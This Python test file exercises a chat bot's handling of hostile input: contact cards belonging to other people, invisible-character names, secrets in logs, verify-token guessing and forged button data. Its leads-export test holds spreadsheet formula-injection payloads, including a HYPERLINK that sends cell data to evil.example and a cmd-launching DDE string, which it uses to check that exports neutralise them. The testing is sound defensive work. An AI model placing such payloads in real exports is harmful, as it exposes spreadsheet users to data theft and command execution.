"""Hostile and odd input, end to end: the real PTB Application over HTTP against the Bot API
stand-in, a real SQLite file. Each test checks what the person was told and what is stored.
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import os
import re
import sys

import aiohttp
import pytest

from bot import cli
from bot.app import build_app
from bot.config import Settings
from bot.services.clock import ManualClock
from tests.botapi_standin import BotApiStandin
from tests.e2e_support import running_bot
from tests.test_e2e_onboarding import (
    TYPED_EN,
    assert_hindi,
    expect_contact_keyboard_removed,
    expect_question,
    next_message,
    stored_profile,
)

pytestmark = [
    pytest.mark.timeout(60),
    pytest.mark.filterwarnings("ignore::telegram.warnings.PTBDeprecationWarning"),
]

REFUSED_EN = "That contact card is someone else's, so I have not kept it."
IN_WORDS = "Please type your answer in words."
# Names that show as nothing: Hangul fillers, zero-width and braille blanks, format characters,
# lone variation selectors and combining marks, ideographic spaces.
INVISIBLE_NAMES = [
    "\u3164", "\u3164\u3164\u3164", "\u200b\u200b", "\u2800\u2800", "\u115f", "\u1160\u115f", "\uffa0\uffa0",
    "\u200b\u3164\u2800", "\u2060\ufeff\u00ad", "\u034f\u034f", "\ufe0f\ufe0f", "\u3000\u3000", "\u202e\u3164\u202c",
    " \u00a0 \u200d ", "\u0301\u0301",
]


async def every_text(app) -> str:
    """Every value of every row of every table, as one string."""
    out = []
    for table in await app.db.tables():
        for row in await app.db.fetchall(f'SELECT * FROM "{table}"'):
            out += [str(v) for v in tuple(row)]
    return "\n".join(out)


async def to_phone_question(api: BotApiStandin, app, uid: int, lang: str = "en"):
    api.send_text(uid, "/start")
    answers = TYPED_EN[:-1] if lang == "en" else [("language", "1")] + TYPED_EN[1:-1]
    for step_id, text in answers:
        await expect_question(api, app, uid, lang, step_id)
        api.send_text(uid, text)
    return await expect_question(api, app, uid, lang, "phone")


async def test_someone_elses_contact_card_is_refused_and_not_kept(tmp_path):
    async with BotApiStandin() as api, running_bot(api, tmp_path / "b.sqlite3") as bot:
        app = bot.app
        api.add_user(201, first_name="Asha", language_code="en")
        await to_phone_question(api, app, 201)
        api.send_contact(201, "+91 99887 76655", own=False, first_name="Cousin")
        refusal = await next_message(api, 201)
        assert refusal.text == REFUSED_EN
        again = await expect_question(api, app, 201, "en", "phone")  # asked again, with the share button
        assert again.reply_markup["keyboard"][0][0]["request_contact"] is True
        assert "phone" not in await stored_profile(app, 201)

        api.send_contact(201, "+91 98765 43210")  # the owner's own card, from the button
        await expect_contact_keyboard_removed(api, app, 201, "en")
        await expect_question(api, app, 201, "en", "summary")
        assert (await stored_profile(app, 201))["phone"] == "+919876543210"
        assert "9988776655" not in (await every_text(app)).replace(" ", "")

        # In Hindi, in Hindi; and someone the bot has never met is told too, with nothing stored.
        api.add_user(202, first_name="रमेश", language_code="hi")
        await to_phone_question(api, app, 202, "hi")
        api.send_contact(202, "+91 99887 76655", own=False)
        refusal = await next_message(api, 202)
        assert_hindi(refusal.text)
        assert refusal.text == app.texts.gettext("hi", REFUSED_EN) != REFUSED_EN
        await expect_question(api, app, 202, "hi", "phone")
        api.add_user(203, first_name="X", language_code="en")
        api.send_contact(203, "+91 99887 76655", own=False)
        assert (await next_message(api, 203)).text == REFUSED_EN
        await api.wait_idle(quiet=0.2)
        assert await app.db.fetchall("SELECT * FROM users WHERE user_ref = '203'") == []
        assert api.refusals == []


async def test_a_name_made_only_of_invisible_characters_is_asked_again(tmp_path):
    async with BotApiStandin() as api, running_bot(api, tmp_path / "b.sqlite3") as bot:
        app = bot.app
        api.add_user(210, first_name="Asha", language_code="en")
        api.send_text(210, "/start")
        for step_id, text in TYPED_EN[:2]:
            await expect_question(api, app, 210, "en", step_id)
            api.send_text(210, text)
        await expect_question(api, app, 210, "en", "owner_name")
        for name in INVISIBLE_NAMES:
            api.send_text(210, name)
            assert (await next_message(api, 210)).text == IN_WORDS, repr(name)
            await expect_question(api, app, 210, "en", "owner_name")
            assert "owner_name" not in await stored_profile(app, 210), repr(name)
        api.send_text(210, "Asha\u3164 Devi\u200b")  # fillers around a real name are dropped, the name kept
        await expect_question(api, app, 210, "en", "business_name")
        assert (await stored_profile(app, 210))["owner_name"] == "Asha Devi"
        assert api.refusals == []


# ----------------------------------------------------------------- files, logs, exports
FORMULAS = {
    "owner_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "business_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "district": "-2+3",
}


def test_leads_export_writes_formula_like_cells_as_text(tmp_path, monkeypatch, capsys):
    from tests.test_leads_e2e import PROFILE, REGISTRY, seed_owner

    db_path = tmp_path / "cli.sqlite3"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_PATH", str(db_path))
    registry = tmp_path / "startups.yaml"
    registry.write_text(REGISTRY.replace("Pital Nagri Export Labs", "+Pital Nagri"), encoding="utf-8")

    async def a_lead() -> None:
        app = await build_app(Settings(database_path=db_path), clock=ManualClock())
        try:
            await app.leads.import_file(registry)
            user_id = await seed_owner(app, 101, finished=True, profile={**PROFILE, **FORMULAS, "owner_name": "\t=1+2"})
            second = await seed_owner(app, 102, finished=True, profile={**PROFILE, **FORMULAS})
            assert await app.leads.evaluate(user_id) and await app.leads.evaluate(second)
        finally:
            await app.close()

    asyncio.run(a_lead())
    assert cli.main(["leads", "export", "--output", "leads.csv"]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "leads.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 2
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.startswith("+91"), (column, value)
        assert row["business"] == "'" + FORMULAS["business_name"] and row["district"] == "'-2+3"
        assert row["phone"] == "+919876543210"  # the number as stored: a number to a spreadsheet, not a formula
    assert {r["owner"] for r in rows} == {"'\t=1+2", "'" + FORMULAS["owner_name"]}
    assert {r["startup"] for r in rows} <= {"'+Pital Nagri", "Ganga Crafts Connect"}


@pytest.fixture
def log_to(request):
    """Point the root logger at a buffer the way `saathi run` sets it up; put pytest's handlers back after."""
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    buffer = io.StringIO()
    yield buffer
    root.handlers[:], _ = saved[0], root.setLevel(saved[1])


def tg_update(update_id: int, user_id: int, text: str) -> dict:
    return {"update_id": update_id, "message": {
        "message_id": update_id, "date": 1_780_000_000, "chat": {"id": user_id, "type": "private", "first_name": "Asha"},
        "from": {"id": user_id, "is_bot": False, "first_name": "Asha", "language_code": "en"}, "text": text,
        "entities": [{"type": "bot_command", "offset": 0, "length": len(text)}] if text.startswith("/") else []}}


async def test_at_debug_level_no_secret_and_no_owners_name_reaches_the_log(tmp_path, log_to):
    from bot.channels.webhook import SECRET_HEADER
    from bot.logs import setup_logging
    from bot.runtime import BotProcess
    from tests.whatsapp_standin import WhatsAppStandin

    secret, verify = "tg-Webhook_Secret-4417", "wa-verify-Token-9931"
    async with BotApiStandin() as tg, WhatsAppStandin() as wa:
        settings = Settings(
            telegram_token=tg.token, telegram_api_base_url=tg.base_url, database_path=tmp_path / "b.sqlite3", log_level="DEBUG",
            webhook_url="https://bot.example.org/telegram", webhook_secret=secret, webhook_listen="127.0.0.1", webhook_port=0,
            whatsapp_token=wa.token, whatsapp_phone_number_id=wa.phone_number_id, whatsapp_app_secret=wa.app_secret,
            whatsapp_verify_token=verify, whatsapp_api_base_url=wa.base_url, whatsapp_port=0,
        )
        setup_logging("DEBUG", settings.secrets(), stream=log_to)
        process = BotProcess(settings, clock=ManualClock())
        await process.start()
        try:
            assert tg.webhook_url == "https://bot.example.org/telegram"
            port = process.webhook_runner.addresses[0][1]
            host, wa_port = process.whatsapp_runner.addresses[0][:2]
            wa.webhook_url = f"http://{host}:{wa_port}/whatsapp"
            tg.add_user(77, first_name="Asha", language_code="en")
            async with aiohttp.ClientSession() as http:
                for n, text in enumerate(["/start", "2", "yes", "Asha Devi", "Asha Brass Works"], 1):
                    async with http.post(f"http://127.0.0.1:{port}/telegram", json=tg_update(900 + n, 77, text),
                                         headers={SECRET_HEADER: secret}) as resp:
                        assert resp.status == 200
                    await tg.wait_for_messages(77, 1)
                async with http.post(f"http://127.0.0.1:{port}/telegram", json=tg_update(999, 77, "x"),
                                     headers={SECRET_HEADER: "guess"}) as resp:
                    assert resp.status == 403
            for text in ("Hi", "2", "yes", "Ramesh Kumar"):
                assert await wa.send_text("919812345678", text) == 200
            assert (await wa.verify(token=verify))[0] == 200
            assert (await wa.verify(token="not-it"))[0] == 403
            await tg.wait_idle(quiet=0.3)
        finally:
            await process.stop()
    text = log_to.getvalue()
    assert "Calling Bot API endpoint" in text and "DEBUG" in text  # debug logging really was on
    for value in (*settings.secrets(), tg.token.split(":")[1], "Asha Devi", "Asha Brass Works", "Ramesh Kumar", "9812345678"):
        assert value not in text, value


async def test_saathi_run_warns_about_a_writable_env_and_never_prints_a_rejected_token(tmp_path):
    wrong = "424242:AAWrongTokenThatTelegramRefuses"
    async with BotApiStandin() as api:
        env_file = tmp_path / ".env"
        env_file.write_text(f"TELEGRAM_BOT_TOKEN={wrong}\nLOG_LEVEL=DEBUG\n", encoding="utf-8")
        env_file.chmod(0o666)
        environ = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "WHATSAPP_", "WEBHOOK_", "DATABASE_"))}
        environ.update(TELEGRAM_API_BASE_URL=api.base_url, DATABASE_PATH=str(tmp_path / "b.sqlite3"))
        proc = await asyncio.create_subprocess_exec(sys.executable, "-m", "bot.cli", "run", cwd=tmp_path, env=environ,
                                                    stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE,
                                                    stderr=asyncio.subprocess.PIPE)
        out, err = await asyncio.wait_for(proc.communicate(), 60)
    text = (out + err).decode()
    assert proc.returncode == 2, text
    assert "Telegram refused TELEGRAM_BOT_TOKEN" in text
    assert "AAWrongToken" not in text and "Traceback" not in text
    assert ".env can be written by group and others" in text and "chmod 600" in text

    env_file.chmod(0o600)  # and a private .env gets no warning (the terminal chat starts and ends with stdin)
    env_file.write_text("LOG_LEVEL=INFO\n", encoding="utf-8")
    proc = await asyncio.create_subprocess_exec(sys.executable, "-m", "bot.cli", "run", cwd=tmp_path, env=environ,
                                                stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE,
                                                stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode == 0 and "can be written by" not in (out + err).decode()


# ----------------------------------------------------------------- WhatsApp
@pytest.fixture
async def whatsapp(tmp_path):
    """The bot on WhatsApp alone, as ``saathi run`` starts it (the tests drain the outbox themselves)."""
    from bot.runtime import BotProcess
    from tests.whatsapp_standin import WhatsAppStandin

    async with WhatsAppStandin() as api:
        settings = Settings(
            database_path=tmp_path / "wa.sqlite3", whatsapp_token=api.token, whatsapp_phone_number_id=api.phone_number_id,
            whatsapp_app_secret=api.app_secret, whatsapp_verify_token="saathi-verify-7d1f", whatsapp_api_base_url=api.base_url,
            webhook_listen="127.0.0.1", whatsapp_port=0,
        )
        process = BotProcess(settings, clock=ManualClock(), background=False)
        await process.start()
        host, port = process.whatsapp_runner.addresses[0][:2]
        api.webhook_url = f"http://{host}:{port}/whatsapp"
        try:
            yield api, process
        finally:
            await process.stop()


async def test_whatsapp_verify_guesses_are_throttled_and_logged_once_per_burst(whatsapp, caplog):
    api, process = whatsapp
    now = [1000.0]
    process.whatsapp.clock = lambda: now[0]
    caplog.set_level(logging.WARNING, logger="bot.channels.whatsapp")

    def warnings() -> int:
        return sum("verification refused" in r.getMessage() for r in caplog.records)

    for guess in range(5):
        assert (await api.verify(token=f"guess-{guess}"))[0] == 403
        now[0] += 1
    assert (await api.verify(token="guess-5"))[0] == 429
    assert (await api.verify(token="saathi-verify-7d1f"))[0] == 429  # the right one too, while throttled
    assert warnings() == 1
    now[0] += 61
    assert await api.verify(token="saathi-verify-7d1f", challenge="777") == (200, "777")
    assert (await api.verify(token="again"))[0] == 403
    assert warnings() == 2  # a new burst, a new warning


async def test_text_an_owner_typed_with_whatsapp_markers_shows_literally_on_a_lead_card(whatsapp, tmp_path):
    from bot.channels.whatsapp import WhatsAppSender
    from tests.test_leads_e2e import PROFILE, REGISTRY, seed_owner

    api, process = whatsapp
    app = process.app
    registry = tmp_path / "startups.yaml"
    registry.write_text(REGISTRY, encoding="utf-8")
    await app.leads.import_file(registry)
    staffs = {"up_brass": "919000000001", "up_ganga": "919000000002"}  # whichever gets the lead has a staff chat
    for startup, chat in staffs.items():
        _, link, _ = await app.leads.invite(startup)
        assert await api.send_text(chat, "/start " + link.split("?start=", 1)[1]) == 200
    typed = {"owner_name": "*Meena* Devi", "business_name": "_Best_ Exports ~Ltd~", "district": "`Panipat`"}
    user_id = await seed_owner(app, 919811111111, finished=True, channel="whatsapp", profile={**PROFILE, **typed})
    assert await app.leads.evaluate(user_id) == 1
    await app.delivery({"whatsapp": WhatsAppSender(process.whatsapp.client, app.texts)}).drain()
    [card] = [m for chat in staffs.values() for m in api.messages(chat) if "#1" in m.text]
    for word in ("Meena", "Best", "Ltd", "Panipat"):
        assert word in card.text
        run = re.search(rf"(?<!\w)([*_~`]+){word}[^\n]*?\1(?!\w)", card.text)  # what WhatsApp would format
        assert run is None, (word, card.text)
    assert "\u2217Meena\u2217 Devi" in card.text and "\u02cdBest\u02cd Exports \u223cLtd\u223c" in card.text
    assert card.text.startswith("🆕 *Lead #1*")  # the bot's own bold still is bold
    assert api.refusals == []


# ----------------------------------------------------------------- forged staff buttons
FORGED = [
    "ld:²:acc", "ld:٣:acc", "ld:12345678901234567890:acc", "ld:99999999999999999999999999:view", "ld:1_0:acc", "ld:-1:acc",
    "ld:0x1:acc", "ld::acc", "ld:1:", "ld:1:acc:extra", "ld:1:dec.\u0000", "ld:1:dec.nonsense", "ld:1:💥", "ld:💥:acc",
    "ls:all:²", "ls:all:99999999999999999999", "ls:all:-1", "ls:nope:0", "ls:all:", "ls::", "ld", "ls", "su:yes:²",
    "su:yes:99999999999999999999", "su:maybe:0", "su:", "ld:1:acc\n", "\u202eld:1:acc",
]


async def test_forged_staff_buttons_get_a_polite_refusal_and_change_nothing(tmp_path):
    from tests.test_leads_e2e import REGISTRY, answers_to, join, qualify, snapshot
    from tests.test_leads_e2e import Harness as LeadsHarness

    async with BotApiStandin() as api, running_bot(api, tmp_path / "b.sqlite3", clock=ManualClock()) as bot:
        registry = tmp_path / "startups.yaml"
        registry.write_text(REGISTRY, encoding="utf-8")
        await bot.app.leads.import_file(registry)
        h = LeadsHarness(api, bot, ManualClock(), tmp_path / "b.sqlite3")
        welcome = await join(h, 501, "up_brass")
        await join(h, 502, "up_ganga")
        await qualify(h, 101)
        await api.wait_idle(quiet=0.3)
        before = await snapshot(bot.app)
        api.new_messages(501)
        for data in FORGED:
            api.tap(501, welcome.message_id, data)
        answers = await answers_to(api, len(FORGED))
        await api.wait_idle(quiet=0.3)
        sent = [m.text for m in api.new_messages(501)]
        assert not any("could not save" in (t or "") for t in sent), sent
        allowed = {"That button no longer works. Send /leads to see your leads.", "This lead is not assigned to your startup.",
                   "That button is from an earlier message. Please use the latest one."}
        for data, answer in zip(FORGED, answers):
            assert answer in allowed, (data, answer)
        assert await snapshot(bot.app) == before
        assert len(await bot.app.db.fetchall("SELECT * FROM startup_staff")) == 2  # no forged unlink
        assert api.refusals == []


async def test_a_whatsapp_contact_card_counts_only_when_it_is_the_senders_own(whatsapp):
    api, process = whatsapp
    app = process.app
    me = "919811122233"
    assert await api.send_text(me, "Hi") == 200
    for _, text in TYPED_EN[:-1]:
        assert await api.send_text(me, text) == 200
    api.new_messages(me)
    assert await api.send_contact(me, "+91 99887 76655", name="Cousin") == 200
    refusal, again = api.new_messages(me)
    assert refusal.text == REFUSED_EN
    assert again.text.startswith(app.texts.gettext("en", app.engine.flow.step("phone").text)[:30])
    row = await app.db.fetchone("SELECT profile FROM users WHERE user_ref = ?", (me,))
    assert "phone" not in row["profile"]
    assert await api.send_contact(me, "+91 98111 22233", name="Me") == 200  # their own card
    row = await app.db.fetchone("SELECT profile FROM users WHERE user_ref = ?", (me,))
    assert '"phone": "+919811122233"' in row["profile"]
    # the handled update left the inbox with the next one: the other person's number is nowhere
    stored = [str(v) for table in await app.db.tables()
              for r in await app.db.fetchall(f'SELECT * FROM "{table}"') for v in tuple(r)]
    assert not any("99887" in v.replace(" ", "") or "9988776655" in v.replace(" ", "") for v in stored)
    assert api.refusals == []
